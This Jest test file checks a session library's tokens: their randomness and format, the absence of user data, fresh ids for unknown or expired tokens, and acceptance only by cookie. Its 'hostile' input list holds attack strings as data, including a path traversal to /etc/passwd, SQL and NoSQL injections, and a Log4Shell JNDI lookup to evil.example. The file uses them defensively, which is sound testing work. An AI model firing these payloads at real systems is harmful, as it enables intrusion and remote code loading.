import { afterEach, describe, expect, it } from '@jest/globals';
import { memoryStore } from 'nest-sessions';
import { SessionToken } from '../../lib/core/session-token.js';
import { adapters } from '../support/adapters.js';
import type { Visit } from '../support/browser.js';
import { idOf, playground, type Playground } from '../support/playground.js';

const TOKEN = /^[0-9a-f]{32}\.[\w-]{43}$/;
const STRANGER = `${'0'.repeat(32)}.${'S'.repeat(43)}`;
const FORTNIGHT = 14 * 24 * 3600;

describe('A hundred thousand tokens', () => {
  const halves = Array.from({ length: 100_000 }, () => SessionToken.mint().reveal().split('.'));
  const ids = halves.map(([id]) => id!);
  const secrets = halves.map(([, secret]) => secret!);

  /** The most letters with which two of them begin alike. */
  function longestSharedPrefix(texts: readonly string[]): number {
    const sorted = texts.toSorted();
    let longest = 0;
    for (let index = 1; index < sorted.length; index++) {
      const [one, other] = [sorted[index - 1]!, sorted[index]!];
      let length = 0;
      while (length < one.length && one[length] === other[length]) length++;
      longest = Math.max(longest, length);
    }
    return longest;
  }

  it('1.1, 1.11 are 128 bits of id and 256 of secret, none twice, and none begins as another does', () => {
    expect(halves.filter((both) => !TOKEN.test(both.join('.')))).toEqual([]);
    expect(new Set(ids).size).toBe(ids.length);
    expect(new Set(secrets).size).toBe(secrets.length);
    // Two of so many begin alike by chance for about 33 bits, and once in a hundred million runs for 60.
    expect(longestSharedPrefix(ids)).toBeLessThan(60 / 4);
    expect(longestSharedPrefix(secrets)).toBeLessThan(60 / 6);
  });

  it('1.1 use every letter in every place', () => {
    const lettersAt = (texts: readonly string[], place: number) => new Set(texts.map((text) => text[place]));
    for (let place = 0; place < 32; place++) expect(lettersAt(ids, place).size).toBe(16);
    for (let place = 0; place < 42; place++) expect(lettersAt(secrets, place).size).toBe(64);
    // Of the last letter, 256 bits leave four.
    expect(lettersAt(secrets, 42).size).toBe(16);
  });
});

describe.each(adapters)('A token on $adapter', ({ make }) => {
  let ground: Playground;
  afterEach(() => ground?.close());

  async function start(session: Parameters<typeof playground>[0]['session'] = {}): Promise<void> {
    ground = await playground({ adapter: make(), store: memoryStore(), session });
  }

  /** What reaches the store from now on, with every argument. */
  function listenAtStore(): () => string {
    const asked: string[] = [];
    ground.watched.before = (verb, args) => void asked.push(verb + JSON.stringify(args));
    return () => asked.join('\n');
  }

  const post = (path: string, token: string): Promise<Visit> =>
    ground.browser().post(path, { headers: { cookie: `sessionid=${token}` } });

  it.each(['genid', 'generateId', 'randomBytes'])(
    '1.1 comes from no generator of the application: there is no option %s',
    async (name) => {
      ground = undefined as never;
      await expect(start({ [name]: () => '1' })).rejects.toThrow(`${name}: there is no such option`);
    },
  );

  it('1.2 says nothing of user, tenant, address, host or time', async () => {
    await start();
    ground.on('login', async (session) => {
      session.set('tenant', 'acme');
      await ground.sessions.login('ada@example.com', { methods: ['pwd'] });
    });
    const browsers = [ground.browser(), ground.browser()];
    for (const browser of browsers) await browser.post('/login');
    const now = ground.clock.now();
    const words = ['ada', 'example', 'acme', 'pwd', '127.0.0.1', 'localhost'];
    const times = [now, Math.floor(now / 1000)].flatMap((time) => [String(time), time.toString(16)]);
    const tokens = browsers.map((browser) => browser.cookie()!);
    for (const token of tokens) {
      const [id, secret] = token.split('.');
      const bytes = Buffer.concat([Buffer.from(id!, 'hex'), Buffer.from(secret!, 'base64url')]);
      const text = bytes.toString('latin1').toLowerCase();
      for (const word of words) expect(text).not.toContain(word);
      for (const time of times) {
        expect(token).not.toContain(time);
        if (time.length % 2 === 0) expect(bytes.includes(Buffer.from(time, 'hex'))).toBe(false);
      }
    }
    // Of the same user at the same moment.
    const [one, other] = tokens.map((token) => token.split('.'));
    expect(one![0]!.slice(0, 12)).not.toBe(other![0]!.slice(0, 12));
    expect(one![1]!.slice(0, 8)).not.toBe(other![1]!.slice(0, 8));
  });

  const strange: [string, string][] = [
    ['is unknown', STRANGER],
    ['is malformed', 'not-a-token'],
    ['is too long', `${STRANGER}${'S'.repeat(8_000)}`],
    ['is in upper case', STRANGER.replaceAll('0', 'A')],
    ['is a number', '12345678901234567890'],
    ['is a list in JSON', `["${STRANGER}"]`],
    ['is an object in JSON', '{"$gt":""}'],
    ['is JSON of cookie-parser', 'j:{"id":"presented"}'],
    ['is signed by express-session', 's:presented.c2lnbmF0dXJl'],
    ['is percent-encoded', STRANGER.replace('.', '%2E')],
  ];

  /** Writes under a token that is none: what the store and the client hear of it, and the fresh id. */
  async function writeUnder(presented: string): Promise<{ heard: string; id: string }> {
    const asked = listenAtStore();
    const visit = await post('/set?name=Eve', presented);
    expect(visit.status).toBe(200);
    const [, token] = /^sessionid=([^;]*)/.exec(visit.setCookies[0]!)!;
    expect(token).toMatch(TOKEN);
    const id = token!.slice(0, 32);
    expect(await ground.dataOf(id)).toEqual({ name: 'Eve' });
    const answer = JSON.stringify([...visit.headers]) + visit.text;
    return { heard: [asked(), answer, ...ground.log].join('\n'), id };
  }

  it.each(strange)('1.3 that %s gets a fresh id, and is neither stored nor echoed', async (_, presented) => {
    await start();
    const { heard, id } = await writeUnder(presented);
    expect(heard).not.toContain(presented);
    expect(heard).not.toContain('S'.repeat(43));
    expect(presented).not.toContain(id);
    expect(await ground.stored(presented.slice(0, 32))).toBeUndefined();
    expect((await post('/read', presented)).json()).toEqual({});
  });

  it('1.3 that has expired gets a fresh id, and is neither stored nor echoed', async () => {
    await start();
    const presented = (await ground.visitor()).cookie()!;
    ground.clock.advance(FORTNIGHT);
    const { heard, id } = await writeUnder(presented);
    expect(presented).not.toContain(id);
    expect(heard).not.toContain(presented.split('.')[1]);
    expect((await post('/read', presented)).json()).toEqual({});
  });

  const hostile = [
    'a'.repeat(10_000),
    '../../../../etc/passwd',
    `../${STRANGER.slice(3)}`,
    '..%2f..%2fetc%2fpasswd',
    '%00',
    "' OR '1'='1",
    '*',
    '["a","b"]',
    `${STRANGER}, ${STRANGER}`,
    '${jndi:ldap://evil.example}',
  ];

  it.each(shown(hostile))('1.4 such as $name reaches neither store nor log', async ({ text }) => {
    await start();
    const visits = [await post('/read', text), await post('/flush', text)];
    for (const { status, setCookies } of visits) {
      expect([status, setCookies]).toEqual([200, [expect.stringMatching(/^sessionid=; Max-Age=0;/)]]);
    }
    expect(ground.watched.take()).toEqual([]);
    expect(ground.log.join('\n') + JSON.stringify(ground.events)).not.toContain(text);
  });

  const handedOver = [
    ...hostile,
    '\0',
    `${STRANGER.slice(0, 75)}\0`,
    `${STRANGER}\n`,
    ['a', 'b'],
    [STRANGER],
    { id: STRANGER },
    42,
    null,
  ];

  it.each(shown(handedOver))(
    '1.4 such as $name reaches no store when code hands it over',
    async ({ text }) => {
      await start();
      const name = async () => (await ground.sessions.current<any>()).get('name', 'nobody');
      const run = ground.sessions.run(text as string, name);
      if (typeof text === 'string') expect(await run).toBe('nobody');
      else await expect(run).rejects.toThrow(TypeError);
      expect(await ground.sessions.open(text as string)).toBeUndefined();
      expect(await ground.sessions.revoke(text as string)).toBe(false);
      expect(ground.watched.take()).toEqual([]);
    },
  );

  it('1.7 counts in no query, no body and no header but the one of its transport', async () => {
    await start();
    const browser = await ground.visitor({ name: 'Ada' });
    const token = browser.cookie()!;
    const query = ['sessionid', 'sid', 'token', 'X-Session-Token']
      .map((name) => `${name}=${token}`)
      .join('&');
    const ways: [string, Parameters<typeof browser.post>[1]][] = [
      [`/read?${query}`, {}],
      ['/read', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: query }],
      [
        '/read',
        {
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ sessionid: token, cookie: `sessionid=${token}` }),
        },
      ],
      ['/read', { headers: { 'x-session-token': token } }],
      ['/read', { headers: { authorization: `Bearer ${token}` } }],
      ['/read', { headers: { sessionid: token, cookie2: `sessionid=${token}` } }],
    ];
    for (const [path, options] of ways) {
      const visit = await ground.browser().post(path, options);
      expect([visit.status, visit.json()]).toEqual([200, {}]);
      expect(visit.setCookies).toEqual([]);
    }
    expect(ground.watched.take()).toEqual([]);
    expect((await browser.post('/read')).json()).toEqual({ name: 'Ada' });
    expect(idOf(browser)).toBe(token.slice(0, 32));
  });
});

/** With what a title shows of each. */
function shown<T>(texts: readonly T[]): { text: T; name: string }[] {
  return texts.map((text) => ({ text, name: JSON.stringify(text).slice(0, 40) }));
}
